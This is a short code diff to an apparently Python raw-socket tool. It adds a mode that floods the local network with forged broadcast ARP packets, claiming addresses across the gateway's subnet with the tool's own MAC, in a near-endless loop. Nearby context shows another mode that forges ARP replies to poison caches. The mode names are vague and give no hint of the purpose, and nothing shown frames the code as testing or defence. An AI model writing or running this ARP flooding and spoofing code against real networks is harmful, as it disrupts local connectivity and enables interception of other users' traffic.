@@ -128,6 +128,12 @@ elif what == 'declines':
             said = True
         if silent > 5:
             time.sleep(0.5)
+elif what == 'flips':
+    me = lambda host: b'\xff' * 6 + mac + b'\x08\x06' + bytes.fromhex('0001080006040001') + mac + gateway[:3] + bytes([host]) + bytes(6) + gateway[:3] + bytes([host])
+    for n in range(1 << 40):
+        send(raw, me(50 + n % 200))
+        if n == 5000:
+            at_it()
 elif what == 'claims':
     net = gateway[:3]
     answer = lambda ip, to_mac, to_ip: to_mac + mac + b'\x08\x06' + bytes.fromhex('0001080006040002') + mac + ip + to_mac + to_ip
